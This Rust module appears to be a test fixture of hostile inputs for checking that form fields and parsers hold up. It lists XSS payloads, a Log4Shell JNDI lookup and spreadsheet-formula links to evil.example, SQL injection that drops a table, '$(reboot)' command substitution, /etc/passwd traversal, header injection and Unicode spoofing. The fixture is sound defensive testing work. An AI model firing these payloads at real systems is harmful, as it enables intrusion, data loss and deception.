//! Inputs that are meant to break something.

/// What strangers type to do harm.
pub(crate) const TEXTS: [&str; 52] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%00",
    "\\u0000",
    "\\x00",
    "=HYPERLINK(\"http://evil.example\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "'; DROP TABLE user_account; --",
    "$(reboot)",
    "`id`",
    "../../etc/passwd",
    "\r\nBcc: all@example.com",
    "a,b;c\td",
    "раура1",
    "ａｄａ",
    "𝕬𝖉𝖆",
    "ÅÅ",
    "e\u{301}\u{301}\u{301}",
    "👩\u{200D}👩\u{200D}👧",
    "\u{1F1E9}\u{1F1EA}",
    "ﷺ",
    "İıſK",
    "null",
    "true",
    "NaN",
    "1e9",
    "0x10",
    "9223372036854775808",
    "-0",
    "٣٤",
    "ada@xn--80ak6aa92e.com",
    "ada@example.com\u{0}",
    "ada@[127.0.0.1]",
    "http://[::1]/",
    "https://user:pass@evil.example/",
    "file:///etc/passwd",
    "https://exam\u{2028}ple.com",
    "+49 30 123456\u{202E}7",
    "1990-02-30",
    "0000-00-00",
    "--",
    "99999-1-1",
];

/// A thousand and more inputs: each of the texts, controls and invisible characters in several surroundings, and
/// some that are too long.
pub(crate) fn hostile() -> Vec<String> {
    let mut atoms: Vec<String> =
        (0..0x20_u32).chain(0x7F..0xA0).filter_map(char::from_u32).map(String::from).collect();
    let unseen = "\u{AD}\u{200B}\u{200C}\u{200D}\u{200E}\u{200F}\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}\u{2028}\u{2029}\
                  \u{2060}\u{2066}\u{2067}\u{2068}\u{2069}\u{206A}\u{FEFF}\u{FFF9}\u{FFFE}\u{FFFF}\u{E0001}\u{E0041}\u{10FFFF}";
    atoms.extend(unseen.chars().map(String::from));
    atoms.extend(TEXTS.map(str::to_owned));
    let mut all = Vec::new();
    for atom in &atoms {
        for (before, after) in [
            ("", ""),
            ("Ada", ""),
            ("", "Ada"),
            ("Ada ", " Lovelace"),
            (" ", " "),
            ("<b>", "</b>"),
            ("\u{202E}", ""),
            ("+49 30 ", "12345"),
        ] {
            all.push(format!("{before}{atom}{after}"));
        }
    }
    all.push("x".repeat(1 << 20));
    all.push("é".repeat(1 << 19));
    all.push("\u{301}".repeat(10_000));
    all
}
